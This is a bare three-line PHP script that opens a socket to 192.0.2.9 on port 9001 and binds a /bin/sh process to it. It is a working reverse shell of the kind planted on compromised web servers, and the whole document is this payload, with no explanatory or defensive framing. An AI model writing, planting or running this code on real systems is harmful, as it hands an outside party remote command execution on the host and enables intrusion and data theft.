<?php
$s = fsockopen("192.0.2.9", 9001);
$p = proc_open("/bin/sh", [$s, $s, $s], $pipes);
